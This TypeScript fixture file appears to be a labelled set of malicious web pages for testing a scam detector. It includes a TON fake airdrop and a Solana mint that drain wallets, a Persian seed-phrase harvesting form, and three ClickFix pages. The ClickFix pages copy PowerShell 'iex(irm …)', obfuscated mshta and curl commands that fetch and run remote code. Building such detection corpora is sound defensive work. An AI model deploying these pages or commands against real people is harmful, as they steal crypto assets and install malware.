import { htmlRoute, type Entry } from '../entry.js';
import { doc, jsRoute, jsonRoute, okApi, rtlCss } from '../parts/zi-kit.js';

// Drainers, fake airdrops, seed-phrase stealers and ClickFix pages.

export const entries: Entry[] = [
  {
    id: 'zi-drain-ton-airdrop-ru',
    label: 'cryptodrainer',
    kind: 'fake-airdrop',
    url: 'https://ton-airdrop-claim.ru-drop.app/',
    body: doc({
      lang: 'ru',
      title: 'TON Airdrop — Заберите 500 TON',
      css: 'body{background:#0f1621;color:#fff;text-align:center}.c{max-width:440px;margin:60px auto;background:#1b2433;padding:30px;border-radius:18px}button{padding:14px 26px;background:#0098ea;color:#fff;border:0;border-radius:12px;font-size:16px;cursor:pointer}.m{display:none;position:fixed;inset:0;background:#000a}.m div{background:#fff;color:#111;max-width:340px;margin:120px auto;padding:20px;border-radius:14px}.w{display:block;width:100%;margin:6px 0;padding:12px;border:1px solid #ddd;border-radius:10px;background:#fafafa;cursor:pointer}',
      body: `<div class="c"><h1>💎 TON Airdrop</h1><p>Для держателей Telegram Premium и участников сообщества. Осталось: <b id="l">1 482</b> из 10 000.</p>
<p>Подключите кошелёк Tonkeeper / Telegram Wallet, чтобы проверить право на получение 500 TON.</p>
<button onclick="document.getElementById('m').style.display='block'">Подключить кошелёк</button></div>
<div class="m" id="m"><div><h3>Выберите кошелёк</h3><button class="w" onclick="cn('tonkeeper')">Tonkeeper</button><button class="w" onclick="cn('wallet')">Wallet в Telegram</button><button class="w" onclick="cn('mytonwallet')">MyTonWallet</button></div></div>
<script src="/static/tc.min.js"></script>`,
    }),
    routes: {
      'ton-airdrop-claim.ru-drop.app/static/tc.min.js': jsRoute(`var RCV="UQBx9Ka2Zr4pLe0Xf7vC3wNqT1hYdM8sGjEoVb5uRnIcAk";
function cn(w){fetch('/api/log',{method:'POST',body:JSON.stringify({w:w,ua:navigator.userAgent})});
var tx={validUntil:Math.floor(Date.now()/1e3)+360,messages:[{address:RCV,amount:"999000000000",payload:"te6cckEBAQEAHgAAOAAAAABDbGFpbSA1MDAgVE9OIHJld2FyZCDwn5KO"}]};
window.__pendingTx=tx;document.querySelector('#m div').innerHTML='<p>Подтвердите транзакцию «Claim 500 TON reward» в кошельке. Комиссия сети ~0.05 TON.</p>'}`),
      ...okApi('ton-airdrop-claim.ru-drop.app', '/api/log'),
    },
  },
  {
    id: 'zi-drain-seed-validate-fa',
    label: 'cryptodrainer',
    kind: 'seed-phrase',
    url: 'https://wallet-sync-rectify.com/fa/validate',
    body: doc({
      lang: 'fa',
      dir: 'rtl',
      title: 'همگام‌سازی کیف پول — رفع خطای تراکنش',
      css: rtlCss + 'body{background:#f0f2f8}.c{max-width:520px;margin:40px auto;background:#fff;padding:26px;border-radius:12px}textarea{width:100%;height:110px;padding:10px;direction:ltr;border:1px solid #ccd}button{width:100%;padding:13px;background:#3b5bdb;color:#fff;border:0;border-radius:8px;margin-top:10px}.tabs span{display:inline-block;padding:6px 12px;border-bottom:2px solid #3b5bdb;margin-left:6px}',
      body: `<div class="c"><h2>رفع خطای همگام‌سازی کیف پول</h2>
<p>به دلیل به‌روزرسانی شبکه، کیف‌پول‌های Trust Wallet، MetaMask و Exodus باید دوباره اعتبارسنجی شوند. در غیر این صورت دارایی‌ها مسدود می‌شوند.</p>
<div class="tabs"><span>عبارت بازیابی</span><span>Keystore JSON</span><span>کلید خصوصی</span></div>
<form method="post" action="/fa/sync"><textarea name="phrase" placeholder="عبارت بازیابی ۱۲ یا ۲۴ کلمه‌ای خود را با فاصله وارد کنید"></textarea><button>اعتبارسنجی کیف پول</button></form>
<p style="font-size:11px;color:#888">پروتکل امن WalletConnect v2 — رمزگذاری سرتاسری</p></div>`,
    }),
    routes: { 'wallet-sync-rectify.com/fa/sync': htmlRoute('<!doctype html><html lang="fa" dir="rtl"><meta charset="utf-8"><p>در حال همگام‌سازی... لطفاً صفحه را نبندید.</p></html>') },
  },
  {
    id: 'zi-drain-solana-nft-mint-en',
    label: 'cryptodrainer',
    kind: 'drainer',
    url: 'https://afrobeats-genesis-mint.xyz/',
    body: doc({
      lang: 'en',
      title: 'AfroBeats Genesis — Free Mint Live',
      css: 'body{background:#120d1f;color:#fff;text-align:center}.c{max-width:520px;margin:50px auto}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:8px}.g div{background:linear-gradient(135deg,#ff8a00,#e52e71);height:110px;border-radius:8px}button{margin-top:20px;padding:14px 36px;background:#14f195;color:#111;border:0;border-radius:30px;font-weight:700;font-size:16px}',
      body: `<div class="c"><h1>AfroBeats Genesis</h1><p>3,333 hand-drawn collectibles celebrating Lagos, Accra and Nairobi. Free mint for early supporters. <b id="m">2,907</b>/3,333 minted.</p>
<div class="g"><div></div><div></div><div></div></div>
<button id="b">Connect Phantom &amp; Mint</button><p id="s"></p></div>
<script>
document.getElementById('b').onclick=async function(){var s=document.getElementById('s');var p=window.phantom&&window.phantom.solana||window.solana;if(!p){s.textContent='Please install Phantom wallet';return}
var r=await p.connect();var pk=r.publicKey.toString();var res=await fetch('/api/build-tx?owner='+pk);var j=await res.json();
try{var signed=await p.signAllTransactions(j.txs);fetch('/api/submit',{method:'POST',body:JSON.stringify({pk:pk,signed:signed})});s.textContent='Minted! Your NFT will appear shortly.'}catch(e){s.textContent='Transaction rejected, please retry.'}};
</script>`,
    }),
    routes: { 'afrobeats-genesis-mint.xyz/api/build-tx': jsonRoute({ txs: ['AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQADBQ'], note: 'transfer all SPL + SOL to 7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU' }), ...okApi('afrobeats-genesis-mint.xyz', '/api/submit') },
  },
  {
    id: 'zi-clickfix-captcha-weryfikacja-pl',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://mieszkania-krakow-ogloszenia.pl/oferta/3-pokoje-bronowice',
    body: doc({
      lang: 'pl',
      title: 'Weryfikacja, że nie jesteś robotem',
      css: 'body{background:#f9f9f9}.c{max-width:460px;margin:80px auto;background:#fff;border:1px solid #d3d3d3;padding:24px;border-radius:4px;box-shadow:0 0 4px #0001}.cb{display:flex;align-items:center;gap:12px;border:1px solid #ccc;padding:14px;cursor:pointer}.cb span{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px}.st{display:none;background:#f1f1f1;padding:14px;margin-top:14px;font-size:14px}kbd{background:#fff;border:1px solid #999;border-radius:3px;padding:1px 5px}',
      body: `<div class="c"><h3>Sprawdzamy, czy jesteś człowiekiem</h3>
<div class="cb" id="cb"><span></span> Nie jestem robotem <small style="margin-left:auto;color:#999">reCAPTCHA</small></div>
<div class="st" id="st"><b>Weryfikacja nie powiodła się.</b> Wykonaj dodatkowe kroki:<ol><li>Naciśnij <kbd>Win</kbd> + <kbd>R</kbd></li><li>Naciśnij <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Naciśnij <kbd>Enter</kbd></li></ol><p>ID weryfikacji: 88127</p></div></div>
<script>
var c='powershell -w h -nop -c "$u=\\'https://cdn-verify-pl.top/v.ps1\\';iex(irm $u)" # ✅ I am not a robot - reCAPTCHA ID: 88127';
document.getElementById('cb').onclick=function(){navigator.clipboard.writeText(c).catch(function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});document.getElementById('st').style.display='block'};
</script>`,
    }),
  },
  {
    id: 'zi-clickfix-cloudflare-ru',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://kino-hd-smotret.ru.net/film/8812-dyuna-2',
    body: doc({
      lang: 'ru',
      title: 'Проверка безопасности…',
      css: 'body{background:#fff;font-family:system-ui}.w{max-width:620px;margin:90px auto}.w h1{font-weight:500;font-size:30px}.box{border:1px solid #ddd;padding:16px;display:flex;align-items:center;gap:10px;width:300px;background:#fafafa}.s{display:none;margin-top:22px;border-left:4px solid #f38020;padding:10px 16px;background:#fff7f0}code{background:#eee;padding:2px 4px}.ft{margin-top:80px;font-size:12px;color:#888}',
      body: `<div class="w"><h1>kino-hd-smotret.ru.net</h1><p>Проверяем, что вы человек. Это может занять несколько секунд.</p>
<div class="box"><input type="checkbox" id="x"><label for="x">Подтвердите, что вы человек</label></div>
<div class="s" id="s"><p><b>Не удалось выполнить проверку.</b> Для завершения:</p><p>1. Нажмите <code>Windows + R</code><br>2. Вставьте (<code>CTRL + V</code>) команду проверки<br>3. Нажмите <code>Enter</code></p></div>
<div class="ft">Ray ID: 8f1a2bc94e7d31a0 · Производительность и безопасность</div></div>
<script src="/cdn-cgi/challenge-platform/orchestrate.js"></script>`,
    }),
    routes: {
      'kino-hd-smotret.ru.net/cdn-cgi/challenge-platform/orchestrate.js': jsRoute(`(function(){var p=['m','s','h','t','a'].join(''),s=' h'+'ttps://kino-cdn-stat.ru.net/cap/v2.hta';var cmd=p+s+' # Cloudflare Ray ID: 8f1a2bc94e7d31a0 - human verification';
document.getElementById('x').addEventListener('change',function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');document.body.removeChild(t);document.getElementById('s').style.display='block'});})();`),
    },
  },
  {
    id: 'zi-clickfix-word-font-he',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://docs-viewer-online.co.il-files.com/d/hozeh-skhirut.docx',
    body: doc({
      lang: 'he',
      dir: 'rtl',
      title: 'חוזה שכירות.docx - Word Online',
      css: rtlCss + 'body{background:#f3f2f1}.bar{background:#2b579a;color:#fff;padding:10px 20px}.page{max-width:700px;margin:20px auto;background:#fff;height:500px;padding:30px;filter:blur(3px)}.pop{position:fixed;top:30%;left:50%;transform:translateX(-50%);width:460px;background:#fff;border:1px solid #999;padding:22px;box-shadow:0 4px 20px #0004}button{background:#2b579a;color:#fff;border:0;padding:10px 20px}',
      body: `<div class="bar">Word — חוזה שכירות.docx</div>
<div class="page">חוזה שכירות בלתי מוגנת שנערך ונחתם בתל אביב ביום ... בין: המשכיר ... לבין: השוכר ...</div>
<div class="pop"><h3>הגופן "David Hebrew" לא נמצא</h3><p>לא ניתן להציג את המסמך כראוי. לחץ על "התקן גופן" והדבק את הפקודה בחלון ההפעלה (Win+R) כדי להתקין את הגופן.</p><button id="b">התקן גופן</button></div>
<script>document.getElementById('b').onclick=function(){navigator.clipboard.writeText('cmd /c "curl -s -o %TEMP%\\\\fnt.cmd https://fonts-office-cdn.com/he/install.cmd && %TEMP%\\\\fnt.cmd"');this.textContent='הועתק! Win+R ← Ctrl+V ← Enter'}</script>`,
    }),
  },
];
